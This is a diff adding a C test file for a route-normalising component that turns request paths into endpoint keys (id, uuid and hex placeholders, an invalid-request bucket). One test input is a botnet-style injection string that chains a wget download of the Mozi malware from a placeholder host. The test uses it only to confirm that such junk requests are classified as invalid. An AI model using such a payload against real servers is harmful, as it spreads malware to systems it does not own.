@@ -1,0 +1,65 @@
+/*
+ * test_route.c - endpoint keys: id, uuid and hex segments, the raw path
+ * mode, and the "(invalid request)" bucket for requests with no usable
+ * method or path.
+ */
+#include "check.h"
+#include "route.h"
+
+static const char *key(const char *method, const char *path, enum group_by g)
+{
+	static char buf[ROUTE_MAX + 1];
+	request_t r = {0};
+	r.method.p = method;
+	r.method.n = strlen(method);
+	r.path.p = path;
+	r.path.n = strlen(path);
+	size_t n = route_key(&r, g, buf, ROUTE_MAX);
+	buf[n] = '\0';
+	return buf;
+}
+
+static const char *norm(const char *path)
+{
+	static char buf[64];
+	size_t n = route_normalise(path, strlen(path), buf, sizeof(buf) - 1);
+	buf[n] = '\0';
+	return buf;
+}
+
+int main(void)
+{
+	CHECK_STR(norm("/api/v1/users/42"), "/api/v1/users/:id");
+	CHECK_STR(norm("/users/42/posts/7/"), "/users/:id/posts/:id/");
+	CHECK_STR(norm("/runs/123e4567-e89b-12d3-a456-426614174000/x"),
+		  "/runs/:uuid/x");
+	CHECK_STR(norm("/runs/123E4567-E89B-12D3-A456-426614174000"),
+		  "/runs/:uuid");
+	CHECK_STR(norm("/runs/123e4567-e89b-12d3-a456-42661417400"),
+		  "/runs/123e4567-e89b-12d3-a456-42661417400");
+	CHECK_STR(norm("/blob/0123456789abcdef"), "/blob/:hex");
+	CHECK_STR(norm("/blob/0123456789abcde"), "/blob/0123456789abcde");
+	CHECK_STR(norm("/assets/application-0123456789abcdef0123.js"),
+		  "/assets/application-0123456789abcdef0123.js");
+	CHECK_STR(norm("/v2/users"), "/v2/users");
+	CHECK_STR(norm("/"), "/");
+	CHECK_STR(norm("//a//1"), "//a//:id");
+	CHECK_STR(norm("/deadbeef"), "/deadbeef"); /* short hex is a word */
+	/* cut at the buffer, never overrun */
+	CHECK_INT(strlen(norm("/zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"
+			      "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz")),
+		  63);
+	CHECK_STR(norm("/aaaaaaaaaaaaaaaaaaaa"), "/:hex"); /* 20 x 'a' is hex */
+
+	CHECK_STR(key("GET", "/users/42", GROUP_ROUTE), "GET /users/:id");
+	CHECK_STR(key("GET", "/users/42", GROUP_PATH), "GET /users/42");
+	CHECK_STR(key("OPTIONS", "*", GROUP_ROUTE), "OPTIONS *");
+	CHECK_STR(key("PATCHp", "/x", GROUP_ROUTE), "PATCHp /x");
+	CHECK_STR(key("", "", GROUP_ROUTE), ROUTE_INVALID);
+	CHECK_STR(key("\\x16\\x03\\x01", "", GROUP_ROUTE), ROUTE_INVALID);
+	CHECK_STR(key("HELP", "", GROUP_ROUTE), ROUTE_INVALID);
+	CHECK_STR(key("27;wget%20http://%s:%d/Mozi.m", "x", GROUP_ROUTE),
+		  ROUTE_INVALID);
+	CHECK_STR(key("GET", "x.php", GROUP_ROUTE), ROUTE_INVALID);
+	return CHECK_DONE("test_route");
+}
